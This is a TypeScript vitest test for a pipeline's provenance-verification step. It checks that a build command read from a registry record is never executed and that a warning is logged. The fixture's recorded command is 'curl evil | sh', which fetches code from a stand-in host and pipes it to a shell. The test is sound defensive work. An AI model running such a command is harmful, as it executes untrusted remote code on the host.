import { describe, expect, it } from 'vitest';
import { withRecordedInputs } from '../../../src/pipeline/verify.js';
import { recordingIo } from '../../fixtures/fake-io.js';
import { runRequest } from '../../fixtures/run-request.js';

describe('verify: the inputs a provenance records', () => {
  it('never runs a build-command read from the registry, whatever commit it names', () => {
    const io = recordingIo();
    const asked = runRequest('/tmp/ws', 'main', { 'build-command': 'make' });
    const sha = asked.context.sha;
    const recorded = { buildCommand: 'curl evil | sh', commit: sha, target: 'app' };
    const taken = withRecordedInputs(asked, recorded, 'alice/hello:latest', io);
    expect(taken.inputs.buildCommand).toBe('make');
    expect(taken.inputs.target).toBe('app');
    expect(io.texts('warning').join('\n')).toMatch(/"curl evil \| sh".*never run/);
  });
});
